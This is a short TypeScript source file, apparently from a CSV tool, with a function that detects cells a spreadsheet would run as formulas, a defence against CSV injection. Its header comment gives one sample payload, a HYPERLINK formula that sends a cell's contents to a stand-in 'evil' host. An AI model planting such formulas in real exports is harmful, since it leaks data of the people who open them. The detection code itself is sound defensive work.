// Cells a spreadsheet would run: CSV injection (OWASP). A kept cell such as
// =HYPERLINK("http://evil/?"&A1) or @SUM(...) runs when someone opens the
// export in a spreadsheet. apply --escape-formulas writes such cells after a
// single quote; veil scan counts them.

import { parseNumber } from './numeric.js';

/**
 * A cell a spreadsheet would run as a formula: it starts with =, +, -, @, a
 * tab or a carriage return (OWASP, CSV injection), and is not a plain number
 * (-5 is a number, not a formula).
 */
export function looksLikeFormula(text: string): boolean {
  const c = text.charCodeAt(0);
  if (c !== 0x3d && c !== 0x2b && c !== 0x2d && c !== 0x40 && c !== 0x09 && c !== 0x0d) return false;
  return parseNumber(text) === undefined;
}

